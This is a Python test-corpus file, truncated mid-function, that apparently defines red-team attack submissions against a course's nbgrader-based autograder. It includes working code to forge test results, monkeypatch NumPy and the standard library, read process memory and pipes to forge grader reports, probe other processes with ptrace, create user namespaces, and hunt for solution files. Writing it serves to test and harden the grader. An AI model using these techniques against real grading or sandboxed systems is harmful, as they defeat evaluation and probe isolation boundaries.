"""The red-team corpus of issue 10: attacks written by someone who has read the grader's source.

Every attack is one student folder, built from the assignment's own release and solution
notebooks, and states its SAFE outcome, the one the grader must give whatever it is built on:

    most      the most it may score: "zero", "baseline" (the honest ×1.01 answer of ex02, which
              really passes 8 of 14 points), "full" (its honest content is correct: the attack is
              on the feedback, the terminal or the run, not on the points), or "task:<grade_id>"
              (full marks less the points of that answer's task: the answer breaks an exercise
              rule or calls the reference, everything else is honest)
    flagged   True where issue 10 asks for the instructor's review (the reference reached, an
              exercise rule broken, the grader's channel, reports or process tampered with);
              None where the design makes the attack inert and only the score is checked
    forbid    text that must not appear in the student's graded notebook (what a probe prints
              when it reached something: a hidden test, a user namespace, another process)
    canary    text that must appear there (the probe ran and its output was kept; without it a
              forbidden text could be missing for the wrong reason)
    feedback  nbgrader's feedback is rendered and must hold no live payload (``live_payloads``)
    terminal  the grader's terminal output must hold no escape sequence (ESC) at all

Attacks in the same ``run`` of the same assignment are graded together, in ONE run of
``python -m lstm_course.autograde`` (``run == "main"``); the attacks on the run itself (a FIFO
as timestamp.txt, a student folder named like the summary, names that forge CSV rows, a grade
that cannot be recorded) get a small run of their own, with one honest control student. Most
attacks start from the blank release (honest content: nothing) or from the ×1.01 answer.

To write the submissions into a course by hand (then grade it with make autograde):

    python tests/autograde/corpus/attacks.py --course-dir COURSE --assignment ex02_forget_gate
"""

from __future__ import annotations

import argparse
import ast
import base64
import contextlib
import copy
import hashlib
import io
import json
import os
import re
import shutil
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))
import autograde_harness as harness  # noqa: E402

cases = harness.load_cases()
EX02 = "ex02_forget_gate"
TIMESTAMP = cases.TIMESTAMP
LATER = "2026-01-02 12:00:00.000000 UTC"
XSS = "XSSF"  # in every stored-XSS payload: live_payloads looks for it in executable places


@dataclass
class Ctx:
    """What a builder gets: the corpus's Context (release, answers) and the student id."""

    base: object  # cases.Context
    student: str

    @property
    def course(self) -> Path:
        return self.base.course

    @property
    def assignment(self) -> str:
        return self.base.assignment

    @property
    def notebook(self) -> str:
        return self.base.notebook

    @property
    def release(self):
        return copy.deepcopy(self.base.release)

    def solved(self):
        return self.base.solved()

    def functions(self) -> list[tuple[str, list[str], str]]:
        """(name, parameters, grade_id) of every function the answer cells define, in order."""
        out = []
        for cell in self.base.release.cells:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if not meta.get("solution"):
                continue
            for node in ast.parse(cell.source).body:
                if isinstance(node, ast.FunctionDef):
                    out.append((node.name, [a.arg for a in node.args.args], meta["grade_id"]))
        return out

    def nb(self, notebook) -> dict[str, bytes]:
        return {f"{self.notebook}.ipynb": cases.dumps(notebook)}


@dataclass
class Attack:
    name: str
    cls: str  # the class of attack, in issue 10's words
    doc: str
    build: Callable[[Ctx], dict]
    assignment: str = EX02
    run: str = "main"
    most: str = "zero"
    flagged: bool | None = None
    forbid: tuple[str, ...] = ()
    canary: str | None = None
    feedback: bool = False
    terminal: bool = False
    student: str | None = None  # the folder's name, when the name is the attack
    max_seconds: float | None = None

    @property
    def sid(self) -> str:
        return self.student or "atk-" + self.name.replace("_", "-")


ATTACKS: dict[str, Attack] = {}
# The honest submissions every run compares with (not attacks).
BASELINES = ("solved", "blank", "wrong101")


def attack(cls: str, **kw):
    def register(fn):
        name = fn.__name__.removeprefix("atk_")
        ATTACKS[name] = Attack(name, cls, (fn.__doc__ or "").strip(), fn, **kw)
        return fn

    return register


# -- building blocks ------------------------------------------------------------------------
def with_answers(ctx: Ctx, body: Callable[[str, list[str]], str], prelude: str = ""):
    """The release with every answer cell replaced by ``prelude`` (first cell only) and, for each
    function, ``def name(params):`` whose body is ``body(name, params)``."""
    nb = ctx.release
    first = True
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if not meta.get("solution"):
            continue
        names = [
            (n.name, [a.arg for a in n.args.args])
            for n in ast.parse(cell.source).body
            if isinstance(n, ast.FunctionDef)
        ]
        parts = [prelude] if first and prelude else []
        for name, params in names:
            parts.append(f"def {name}({', '.join(params)}):\n" + _indent(body(name, params)))
        cell.source = "\n\n".join(parts)
        first = False
    return nb


def _indent(text: str) -> str:
    return "\n".join("    " + line if line else line for line in text.strip("\n").splitlines())


def stubs_with(ctx: Ctx, line: str):
    """The release with ``line`` added to every stub before its ``raise NotImplementedError``."""
    nb = ctx.release
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            cell.source = cell.source.replace(
                "    raise NotImplementedError", f"    {line}\n    raise NotImplementedError"
            )
    return nb


def wrong101(ctx: Ctx):
    """The solved notebook whose forget_gate returns the right values × 1.01 (honest, wrong)."""
    nb = ctx.solved()
    wrapper = (
        "_honest_forget_gate = forget_gate\n\n\n"
        "def forget_gate(h_prev, x_t, W_f, b_f):\n"
        "    return _honest_forget_gate(h_prev, x_t, W_f, b_f) * 1.01"
    )
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "forget_gate":
            cell.source += "\n\n\n" + wrapper
    return nb


def before_tests(nb, source: str):
    return cases.insert_before_first_test(nb, source)


def replace_answer(nb, grade_id: str, source: str):
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source
            return nb
    raise LookupError(grade_id)


# The shape an ex02 answer must have, for attacks that return something of the right shape.
SHAPE = """
import numpy as np


def _shape(name, args):
    if name == "forget_gate":
        return (np.shape(args[0])[0], np.shape(args[2])[0])
    return np.shape(args[0])
"""


# -- the baselines ----------------------------------------------------------------------------
def build_solved(ctx):
    return ctx.nb(ctx.solved())


def build_blank(ctx):
    return ctx.nb(ctx.release)


def build_wrong101(ctx):
    return ctx.nb(wrong101(ctx))


BASELINE_BUILDERS = {"solved": build_solved, "blank": build_blank, "wrong101": build_wrong101}


# == 1. output forging: displayhook / execute_result ========================================
@attack("displayhook / execute_result forging")
def atk_displayhook_in_stub(ctx):
    """get_ipython().displayhook('ok') in every stub before its raise: an execute_result before
    the error, which nbgrader's determine_grade reads as full credit."""
    return ctx.nb(stubs_with(ctx, "get_ipython().displayhook('ok')"))


@attack("displayhook / execute_result forging")
def atk_output_sink_result(ctx):
    """Every object of the process that collects outputs (found with gc) is handed an
    execute_result 'ok' from inside the stubs, whatever the test cell prints."""
    line = (
        "[o.execute_result({'text/plain': 'ok'}, {}) for o in __import__('gc').get_objects() "
        "if hasattr(o, 'execute_result') and hasattr(o, 'outputs')]"
    )
    return ctx.nb(stubs_with(ctx, line))


@attack("displayhook / execute_result forging", flagged=True)
def atk_output_sink_drops_errors(ctx):
    """The output collector's error() replaced by a no-op (instance attribute, found with gc):
    the failing tests then end without an error output."""
    src = (
        "import gc\n"
        "for _o in gc.get_objects():\n"
        "    if hasattr(_o, 'error') and hasattr(_o, 'outputs') and hasattr(_o, 'stream'):\n"
        "        _o.error = lambda *a, **k: None"
    )
    return ctx.nb(before_tests(ctx.release, src))


# == 2. objects that hand back the expected value ===========================================
FRAME_WALK = (
    SHAPE
    + '''
import sys

_CALLS = {}


def _expected(depth=2):
    """The caller's expected value: the first local named like one, walking up the stack."""
    frame = sys._getframe(depth)
    while frame is not None:
        for key in ("expected", "ref", "want", "target", "s_ref"):
            value = frame.f_locals.get(key)
            if isinstance(value, np.ndarray) and not isinstance(value, _Lazy):
                return value
        frame = frame.f_back
    return None


class _Lazy:
    """Looks like the answer: the right shape, and the test's own expected value as numbers."""

    def __init__(self, name, args):
        self.name, self.shape = name, _shape(name, args)

    def __array__(self, dtype=None, copy=None):
        found = _expected()
        # Fail the first test of each function that compares, on purpose: an outside check
        # that only looks at functions whose tests all passed will then look away.
        _CALLS[self.name] = _CALLS.get(self.name, 0) + (found is not None)
        if found is None or _CALLS[self.name] == 1:
            found = np.zeros(self.shape)
        return np.asarray(found, dtype=dtype)
'''
)


@attack("returned objects that hand back the expected value")
def atk_frame_walk_array(ctx):
    """Each answer returns an object whose __array__ walks the caller's frames to the test's
    expected value (and fails one test per function on purpose: 11/14 unflagged today)."""
    return ctx.nb(with_answers(ctx, lambda n, p: f"return _Lazy({n!r}, ({', '.join(p)},))",
                               FRAME_WALK))  # fmt: skip


DUCK = (
    FRAME_WALK
    + '''

class _Duck(_Lazy):
    """Duck-typed as a tensor: grading's as_array calls .detach().cpu().numpy()."""

    requires_grad = True

    def detach(self):
        return self

    def cpu(self):
        return self

    def numpy(self):
        found = _expected()
        return found if found is not None else np.zeros(self.shape)
'''
)


@attack("returned objects that hand back the expected value")
def atk_duck_tensor(ctx):
    """Answers return a 'tensor requiring grad' (detach/cpu/numpy) whose numpy() walks the
    frames to the expected value."""
    return ctx.nb(with_answers(ctx, lambda n, p: f"return _Duck({n!r}, ({', '.join(p)},))", DUCK))


SUBCLASS = (
    FRAME_WALK
    + '''

class _Answer(np.ndarray):
    """A real ndarray (zeros of the right shape) that also quacks like a tensor."""

    def detach(self):
        return self

    def cpu(self):
        return self

    def numpy(self):
        found = _expected()
        return found if found is not None else np.asarray(self)

    def __eq__(self, other):
        return np.ones(np.shape(other), bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        found = _expected()
        if found is not None:
            inputs = tuple(found if x is self else x for x in inputs)
        inputs = tuple(np.asarray(x) if isinstance(x, _Answer) else x for x in inputs)
        return getattr(ufunc, method)(*inputs, **kwargs)
'''
)


@attack("returned objects that hand back the expected value")
def atk_ndarray_subclass(ctx):
    """Answers return an np.ndarray subclass whose ufuncs, __eq__ and numpy() substitute the
    expected value found on the stack."""
    body = "return np.zeros(_shape({n!r}, ({a},))).view(_Answer)"
    return ctx.nb(with_answers(ctx, lambda n, p: body.format(n=n, a=", ".join(p)), SUBCLASS))


LIAR = (
    SHAPE
    + '''

class _Liar:
    """Equal to everything, true, a float, a sequence, an array: whatever is asked."""

    def __init__(self, shape):
        self.shape, self.ndim, self.dtype = shape, len(shape), np.dtype(float)

    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False  # noqa: E731
    __bool__ = lambda self: True  # noqa: E731
    __float__ = lambda self: 0.5  # noqa: E731
    __len__ = lambda self: self.shape[0] if self.shape else 1  # noqa: E731
    __array_priority__ = 1e9

    def __array_ufunc__(self, *args, **kwargs):
        return True

    def __array_function__(self, func, types, args, kwargs):
        return True

    def __array__(self, dtype=None, copy=None):
        return np.full(self.shape, 0.5)

    def __getattr__(self, name):
        return lambda *a, **k: self
'''
)


@attack("returned objects that hand back the expected value")
def atk_eq_float_liar(ctx):
    """Answers return an object whose __eq__, __bool__, __float__, __array_ufunc__ and
    __array_function__ all say 'equal' (its values are 0.5)."""
    body = "return _Liar(_shape({n!r}, ({a},)))"
    return ctx.nb(with_answers(ctx, lambda n, p: body.format(n=n, a=", ".join(p)), LIAR))


DEL_CLEANER = (
    SHAPE
    + '''
import gc

_SINKS = [o for o in gc.get_objects() if hasattr(o, "outputs") and hasattr(o, "execute_result")]


class _Later:
    """Its __del__ runs after the test failed and before the result is sent: it removes the
    error from the test's outputs."""

    def __init__(self, shape):
        self.shape = shape

    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)

    def __del__(self):
        for sink in _SINKS:
            sink.outputs[:] = [o for o in sink.outputs if o.get("output_type") != "error"]
'''
)


@attack("returned objects whose methods run later")
def atk_del_clears_error(ctx):
    """Answers return an object whose __del__ (run when the failed test's traceback is freed)
    deletes the error output of that test."""
    body = "return _Later(_shape({n!r}, ({a},)))"
    return ctx.nb(with_answers(ctx, lambda n, p: body.format(n=n, a=", ".join(p)), DEL_CLEANER))


INPLACE = {
    "sigmoid": "z[...] = 0.0\nreturn np.full(np.shape(z), 0.5)",
    "forget_gate": (
        "for a in (h_prev, x_t, W_f, b_f):\n    a[...] = 0.0\n"
        "return np.full((h_prev.shape[0], W_f.shape[0]), 0.5)"
    ),
    "forget": "f_t[...] = 0.0\nc_prev[...] = 0.0\nreturn np.zeros(np.shape(f_t))",
}


@attack("returned values: inputs edited in place")
def atk_inplace_edit_inputs(ctx):
    """Answers zero their inputs in place and return what the expected value, computed by the
    test after the call from the same arrays, then is (σ(0) = 0.5, 0 * 0 = 0)."""
    return ctx.nb(with_answers(ctx, lambda n, p: INPLACE[n], "import numpy as np"))


THREAD = (
    SHAPE
    + """
import threading
import time


def _zero_later(arrays, value):
    end = time.monotonic() + 0.3
    while time.monotonic() < end:
        for a in arrays:
            if isinstance(a, np.ndarray) and a.flags.writeable:
                a[...] = value
        time.sleep(0)
"""
)


@attack("returned values: inputs edited after the call")
def atk_thread_mutates_inputs(ctx):
    """Answers return 0.5 (or 0) at once and leave a thread that keeps zeroing their inputs,
    so that the expected value computed next from those arrays agrees."""

    def body(n, p):
        value = "0.0"
        ret = "np.zeros" if n == "forget" else "0.5 + np.zeros"
        return (
            f"threading.Thread(target=_zero_later, args=(({', '.join(p)},), {value}), "
            "daemon=True).start()\n"
            f"return {ret}(_shape({n!r}, ({', '.join(p)},)))"
        )

    return ctx.nb(with_answers(ctx, body, THREAD))


# == 3. the grader's channel, nonce and reports ===============================================
FORGE_KERNEL = '''
import gc, json, os

def _forge_kernel_reports():
    """Report every test cell passed with the grader's own reporter, then leave."""
    reporters = [o for o in gc.get_objects() if hasattr(o, "send") and hasattr(o, "fd")]
    cells = [o for o in gc.get_objects() if isinstance(o, dict) and o.get("kind") == "test"
             and isinstance(o.get("index"), int)]
    for rep in reporters:
        for cell in cells:
            rep.send({"event": "start", "index": cell["index"]})
            rep.send({"event": "cell", "index": cell["index"], "outputs": [],
                      "execution_count": 1, "tamper": []})
        rep.send({"event": "done", "total_s": 0})
    if reporters and cells:
        os._exit(0)
'''

FORGE_ORACLE = '''
def _forge_outside_check():
    """In the outside check's sandbox: send the reference's results for its calls first."""
    import importlib
    jobs = [o for o in gc.get_objects() if isinstance(o, dict) and o.get("mode") == "oracle"]
    reporters = [o for o in gc.get_objects() if hasattr(o, "send") and hasattr(o, "fd")]
    if not jobs or not reporters:
        return False
    transport = importlib.import_module("lstm_course.autograde." + "_transport")
    ref = importlib.import_module("lstm" + "_ref." + "np" + "_ref")
    for call in jobs[0].get("calls", []):
        value = getattr(ref, call["name"])(**transport.decode_args(call["args"]))
        if isinstance(value, tuple) and call["name"].endswith("_forward"):
            value = value[:-1] if len(value) > 2 else value[0]
        for rep in reporters:
            rep.send({"event": "oracle", "id": call["id"], "result":
                      transport.encode_result(value), "error": None, "reference_calls": []})
    for rep in reporters:
        rep.send({"event": "done", "total_s": 0})
    os._exit(0)
'''


@attack("forging the grader's reports", flagged=True)
def atk_reporter_forge_exit(ctx):
    """The runner's reporter and its list of test cells found with gc: every test reported
    passed, 'done' sent, the process exits before a real report can conflict."""
    return ctx.nb(before_tests(ctx.release, FORGE_KERNEL + "\n_forge_kernel_reports()"))


@attack("forging the grader's reports", flagged=True)
def atk_outside_check_forge(ctx):
    """In the outside check's sandbox the notebook sends the reference's results (decoded from
    the check's own job) before the real ones; in the kernel it forges the tests' reports."""
    src = (
        FORGE_KERNEL
        + FORGE_ORACLE
        + "\nif not _forge_outside_check():\n    _forge_kernel_reports()"
    )
    return ctx.nb(before_tests(ctx.release, src))


PROC_MEM_FORGE = r"""
import os, re

def _memory():
    with open("/proc/self/maps") as fh:
        regions = [line.split() for line in fh]
    total = 0
    with open("/proc/self/mem", "rb", 0) as mem:
        for parts in regions:
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if "r" not in parts[1] or end - start > 256 * 2**20 or total > 768 * 2**20:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            total += len(chunk)
            yield chunk

nonces, indices = set(), set()
for _chunk in _memory():
    nonces |= set(re.findall(rb'"nonce": "([0-9a-f]{32})"', _chunk))
    indices |= {int(i) for i in re.findall(rb'"index": (\d{1,3}), "kind": "test"', _chunk)}
indices = indices or set(range(60))
pipes = []
for fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and int(fd) > 2:
            pipes.append(int(fd))
    except OSError:
        pass
for _fd in pipes:
    for _nonce in nonces:
        _n = _nonce.decode()
        for _i in sorted(indices):
            os.write(_fd, (json.dumps({"event": "cell", "index": _i, "outputs": [],
                     "execution_count": 1, "tamper": [], "nonce": _n}) + "\n").encode())
        os.write(_fd, (json.dumps({"event": "done", "total_s": 0, "nonce": _n}) + "\n").encode())
print("PROBE-RAN", len(nonces), "nonce(s),", len(pipes), "pipe(s)")
if nonces and pipes:
    os._exit(0)
"""


@attack("forging the grader's reports", flagged=True)
def atk_proc_mem_nonce(ctx):
    """The nonce and the test cells' indices read from /proc/self/mem, forged reports written
    to every inherited pipe listed in /proc/self/fd."""
    return ctx.nb(before_tests(ctx.release, "import json\n" + PROC_MEM_FORGE))


HIDDEN_PROBE = r"""
import gc, re
# The hidden test of forget_gate draws its inputs like this; the probe looks for that line
# anywhere in this process (its own source holds the pieces apart).
_needle = "".join(["random_arrays(", "seed + ", "10"])
_after = "".join([", (N, H), ", "(N, D)"])
_found = []
for _o in gc.get_objects():
    for _v in (_o.values() if isinstance(_o, dict) else _o if isinstance(_o, list) else ()):
        if isinstance(_v, str) and _needle + _after in _v and "PROBE-RAN" not in _v:
            _found.append(_v[:60].replace("\n", " "))
try:
    with open("/proc/self/maps") as _fh:
        _regions = [l.split() for l in _fh]
    with open("/proc/self/mem", "rb", 0) as _mem:
        for _p in _regions:
            _s, _e = (int(x, 16) for x in _p[0].split("-"))
            if "r" not in _p[1] or _e - _s > 256 * 2**20:
                continue
            try:
                _mem.seek(_s)
                _chunk = _mem.read(_e - _s)
            except (OSError, OverflowError, ValueError):
                continue
            for _m in re.finditer(re.escape((_needle + _after).encode()), _chunk):
                _found.append("mem " + _chunk[_m.start() - 20:_m.end()].decode("latin-1"))
                break
except OSError as _exc:
    print("no /proc/self/mem:", _exc)
print("PROBE-RAN")
for _f in _found[:3]:
    print("LEAK:", _f)
"""


@attack("reading hidden tests from memory", forbid=("LEAK:",), canary="PROBE-RAN")
def atk_memory_hidden_tests(ctx):
    """Before any test, the notebook looks for the hidden tests' source in its own memory (gc,
    /proc/self/mem) and prints what it finds into its feedback."""
    return ctx.nb(before_tests(ctx.release, HIDDEN_PROBE))


OTHERS_PROBE = r"""
import ctypes, os
_me = os.getpid()
_libc = ctypes.CDLL(None, use_errno=True)
_seen = []
for _pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != _me]:
    for _what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _fh:
                _text = _fh.read().replace(b"\0", b" ").decode("latin-1")
        except OSError:
            continue
        _seen.append(f"{_pid} {_what}: {_text[:80]}")
        for _secret in ("nonce", "salt", "verif", "HIDDEN", "np_ref", "solutions"):
            if _secret in _text:
                print("LEAK:", _pid, _what, _secret)
    try:
        with open(f"/proc/{_pid}/mem", "rb", 0) as _fh:
            print("LEAK: opened the memory of process", _pid)
    except OSError:
        pass
    if _libc.ptrace(16, int(_pid), None, None) == 0:  # PTRACE_ATTACH
        print("PTRACE_OK", _pid)
        _libc.ptrace(17, int(_pid), None, None)  # PTRACE_DETACH
print("PROBE-RAN", len(_seen), "other process files read")
for _line in _seen[:8]:
    print("  ", _line)
"""


@attack(
    "reaching other processes: /proc/<pid>/mem, environ, ptrace",
    forbid=("LEAK:", "PTRACE_OK"),
    canary="PROBE-RAN",
)
def atk_other_processes(ctx):
    """Every other process in sight: its cmdline and environ searched for the grader's secrets,
    its memory opened, ptrace(PTRACE_ATTACH) tried."""
    return ctx.nb(before_tests(ctx.release, OTHERS_PROBE))


USERNS_PROBE = r"""
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_pid = os.fork()
if _pid == 0:
    _ok = _libc.unshare(0x10000000) == 0  # CLONE_NEWUSER
    os._exit(0 if _ok else 1)
_, _status = os.waitpid(_pid, 0)
print("PROBE-RAN")
if os.WIFEXITED(_status) and os.WEXITSTATUS(_status) == 0:
    print("USERNS_OK: a user namespace was created inside the sandbox")
"""


@attack("creating a user namespace", forbid=("USERNS_OK",), canary="PROBE-RAN")
def atk_user_namespace(ctx):
    """unshare(CLONE_NEWUSER) in a child: a new user namespace is where kernel exploits start."""
    return ctx.nb(before_tests(ctx.release, USERNS_PROBE))


# == 4. reaching the reference ==================================================================
@attack("reaching the reference: importlib", flagged=True)
def atk_importlib_reference(ctx):
    """Answers call lstm_ref.np_ref through importlib with the module name built at run time
    (forget, which the reference lacks, stays blank)."""
    prelude = (
        "import importlib\n\n"
        "_ref = importlib.import_module('.'.join(['lstm' + '_ref', 'np' + '_ref']))"
    )

    def body(n, p):
        if n == "forget":
            return 'raise NotImplementedError("write the body of this function")'
        return f"return getattr(_ref, {n!r})({', '.join(p)})"

    return ctx.nb(with_answers(ctx, body, prelude))


COPY_PACKAGE = r"""
import importlib.util, os, shutil, sys
# A copy of the reference package under another name: its functions are not the reference's
# functions (another __module__), so a trap set on those misses them.
_spec = importlib.util.find_spec("lstm" + "_ref")
_src = os.path.join(os.path.dirname(_spec.origin), "np" + "_ref")
_dst = os.path.join(os.path.expanduser("~"), ".cache", "mine")
shutil.copytree(_src, _dst, dirs_exist_ok=True)
sys.path.insert(0, os.path.dirname(_dst))
_mine = importlib.import_module("mine")
"""


@attack("reaching the reference: files under the venv / the repo", flagged=True)
def atk_reference_copy(ctx):
    """The reference's source files copied from the installed package into a package of the
    student's own ('mine'), imported from there."""

    def body(n, p):
        if n == "forget":
            return 'raise NotImplementedError("write the body of this function")'
        return f"return getattr(_mine, {n!r})({', '.join(p)})"

    return ctx.nb(with_answers(ctx, body, COPY_PACKAGE))


SEARCH_FILES = r"""
import json, os, sqlite3, sys
_COURSE = @@COURSE@@
_WANT = "def " + "forget_gate("
_sources = []


def _take(text):
    if _WANT in text and "PROBE-RAN" not in text:
        _sources.append(text)


def _read(path):
    try:
        if os.path.getsize(path) > 5 * 2**20:
            return
        if path.endswith(".ipynb"):
            nb = json.load(open(path))
            for cell in nb.get("cells", []):
                src = "".join(cell.get("source", ""))
                if "BEGIN SOLUTION" in src:
                    _take(src)
        elif path.endswith(".db"):
            for (src,) in sqlite3.connect(path).execute("select source from source_cell"):
                _take(src or "")
        elif path.endswith(".py"):
            _take(open(path).read())
    except Exception:
        pass


for _path in (_COURSE + "/gradebook.db", _COURSE + "/solutions", _COURSE + "/source",
              "/work", "/srv", "/home", "/root", "/opt", "/tmp", *sys.path):
    if os.path.isfile(_path):
        _read(_path)
    for _dir, _dirs, _files in os.walk(_path):
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", ".git", "torch")]
        for _f in _files:
            if _f.endswith((".ipynb", ".db", ".py")):
                _read(os.path.join(_dir, _f))
print("PROBE-RAN", len(_sources), "file(s) with the answers found")
_ns = {"__name__": "found"}
for _src in _sources:
    try:
        exec(_src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), _ns)
    except Exception:
        pass
"""


@attack("reaching the reference: solutions, gradebook, repo", flagged=None)
def atk_search_files(ctx):
    """The course's gradebook (source_cell holds the solutions), solutions/ and source/, and every
    readable .py, .ipynb and .db under /work, /home, /tmp and sys.path searched for the answer;
    whatever defines forget_gate is executed and used."""
    prelude = SEARCH_FILES.replace("@@COURSE@@", repr(str(ctx.course)))

    def body(n, p):
        return (
            f"if {n!r} in _ns:\n    return _ns[{n!r}]({', '.join(p)})\n"
            'raise NotImplementedError("write the body of this function")'
        )

    return ctx.nb(with_answers(ctx, body, prelude))


@attack("reaching the reference: lstm_course.grading's mistake generators", flagged=True)
def atk_mistake_generator(ctx):
    """grading.gate_mistakes asked for the 'wrong sign' mistake σ(-a): the answer is 1 - that,
    for the gate and (with W = 1, one column) for the sigmoid."""
    prelude = "import numpy as np\nfrom lstm_course import grading"
    bodies = {
        "sigmoid": (
            "col = np.asarray(z, dtype=float).reshape(-1, 1)\n"
            "wrong = grading.gate_mistakes(col, np.zeros((len(col), 0)), np.ones((1, 1)), "
            "np.zeros(1))['wrong_sign']\n"
            "return (1 - wrong).reshape(np.shape(z))"
        ),
        "forget_gate": "return 1 - grading.gate_mistakes(h_prev, x_t, W_f, b_f)['wrong_sign']",
        "forget": 'raise NotImplementedError("write the body of this function")',
    }
    return ctx.nb(with_answers(ctx, lambda n, p: bodies[n], prelude))


# == 5. monkeypatching NumPy, grading, builtins, the runner's modules ========================
ZEROS = SHAPE + ""


def zeros_answers(ctx, prelude: str):
    return with_answers(
        ctx, lambda n, p: f"return np.zeros(_shape({n!r}, ({', '.join(p)},)))", ZEROS + prelude
    )


MODULE_CLASS = '''
import types

import numpy


class _Numpy(types.ModuleType):
    """numpy's class swapped: its dictionary (what a guard snapshots) is untouched."""

    def __getattribute__(self, name):
        if name == "allclose":
            return lambda *a, **k: True
        return types.ModuleType.__getattribute__(self, name)


numpy.__class__ = _Numpy
'''


@attack("monkeypatching NumPy", flagged=True)
def atk_module_class_swap(ctx):
    """numpy.__class__ set to a ModuleType subclass whose np.allclose is always True; answers
    return zeros of the right shape."""
    return ctx.nb(zeros_answers(ctx, MODULE_CLASS))


CTYPES_NDARRAY = '''
import ctypes
import sys


def _unlock(t):
    """Clear Py_TPFLAGS_IMMUTABLETYPE on a static type, so that it can be assigned to."""
    flags = t.__flags__
    for offset in range(0, 400, 8):
        word = ctypes.c_ulong.from_address(id(t) + offset)
        if word.value == flags:
            word.value = flags & ~(1 << 8)
            return word
    raise RuntimeError("tp_flags not found")


_real_sub = np.ndarray.__sub__


def _sub(a, b):
    if sys._getframe(1).f_code.co_name == "isclose":  # only where NumPy compares
        return np.zeros(np.broadcast_shapes(np.shape(a), np.shape(b)))
    return _real_sub(a, b)


_word = _unlock(np.ndarray)
np.ndarray.__sub__ = _sub
_word.value |= 1 << 8
'''


@attack("monkeypatching NumPy (ctypes, immutable type)", flagged=True)
def atk_ctypes_ndarray(ctx):
    """ctypes clears the immutable flag of np.ndarray and replaces its __sub__ inside
    np.isclose, so every comparison of arrays of the same shape passes."""
    return ctx.nb(zeros_answers(ctx, CTYPES_NDARRAY))


AST_PARSE = '''
import ast

_parse = ast.parse


def _no_tests(source, *args, **kwargs):
    """Test cells (they start with a docstring 'Check ...') parse as 'pass'."""
    if isinstance(source, str) and source.lstrip().startswith('"""Check'):
        return _parse("pass", *args, **kwargs)
    return _parse(source, *args, **kwargs)


ast.parse = _no_tests
'''


@attack("monkeypatching the runner's standard library (ast)", flagged=True)
def atk_patch_ast_parse(ctx):
    """ast.parse, which the runner uses to compile each test cell, made to return 'pass' for
    the test cells: every test passes without running."""
    return ctx.nb(before_tests(ctx.release, AST_PARSE))


JSON_DUMPS = '''
import json

_dumps = json.dumps


def _clean(message, *args, **kwargs):
    """The runner's reports leave without their errors."""
    if isinstance(message, dict) and message.get("event") == "cell":
        keep = [o for o in message.get("outputs", [])
                if o.get("output_type") != "error" and o.get("name") != "stderr"]
        message = dict(message, outputs=keep, tamper=[])
    return _dumps(message, *args, **kwargs)


json.dumps = _clean
'''


@attack("monkeypatching the runner's standard library (json)", flagged=True)
def atk_patch_json_dumps(ctx):
    """json.dumps, with which the runner writes its reports, made to drop every error output."""
    return ctx.nb(before_tests(ctx.release, JSON_DUMPS))


BUILTINS_PATCH = """
import builtins
import lstm_course.grading as _g

builtins.AssertionError = type("AssertionError", (Warning,), {})  # tests' failures become warnings
builtins.isinstance = lambda obj, cls, _i=isinstance: True if cls is tuple else _i(obj, cls)
_g.compare.__globals__["_problem"] = lambda *a, **k: None  # through the function's globals
"""


@attack("monkeypatching builtins and grading", flagged=True)
def atk_builtins_and_globals(ctx):
    """builtins.AssertionError and isinstance replaced, and compare's helper replaced through
    compare.__globals__ (no module attribute named); answers return zeros."""
    return ctx.nb(zeros_answers(ctx, BUILTINS_PATCH))


IPYTHON_HOOKS = '''
ip = get_ipython()


def _neuter(lines):
    if lines and lines[0].lstrip().startswith('"""Check'):
        return ["pass\\n"]
    return lines


ip.input_transformers_cleanup.append(_neuter)
ip.events.register("pre_run_cell", lambda *a: None)
'''


@attack("editing test cells: IPython input transformers")
def atk_ipython_transformers(ctx):
    """An IPython input transformer that turns every later test cell into 'pass'."""
    return ctx.nb(before_tests(ctx.release, IPYTHON_HOOKS))


# == 6. exercise rules: NumPy only ===============================================================
@attack("exercise rules: torch in a NumPy-only exercise", most="task:forget_gate", flagged=True)
def atk_torch_in_numpy_only(ctx):
    """The solved notebook, but forget_gate is computed with torch (values right)."""
    src = (
        "import torch\n\n\n"
        "def forget_gate(h_prev, x_t, W_f, b_f):\n"
        "    z = torch.cat([torch.from_numpy(h_prev), torch.from_numpy(x_t)], dim=1)\n"
        "    return torch.sigmoid(z @ torch.from_numpy(W_f).T + torch.from_numpy(b_f)).numpy()"
    )
    return ctx.nb(replace_answer(ctx.solved(), "forget_gate", src))


@attack("tensors requiring grad as arrays", most="task:forget", flagged=True)
def atk_tensor_requires_grad(ctx):
    """The solved notebook, but forget returns a torch tensor requiring grad (values right) in
    the NumPy-only exercise."""
    src = (
        "def forget(f_t, c_prev):\n"
        "    import torch\n"
        "    return torch.tensor(f_t * c_prev, requires_grad=True)"
    )
    return ctx.nb(replace_answer(ctx.solved(), "forget", src))


# == 7. lookups: the open course's inputs are known =============================================
def known_answers(ctx: Ctx) -> dict[str, dict[str, list]]:
    """Run the instructor's notebook (hidden tests included: the course is open) here, with
    every answer function recording its inputs and outputs, plus the inputs of today's outside
    check, which are a function of the student id; return {function: {key: [shape, values]}}."""
    import numpy as np

    table: dict[str, dict[str, list]] = {}
    names = [n for n, _p, _g in ctx.functions()]

    def record(name, fn):
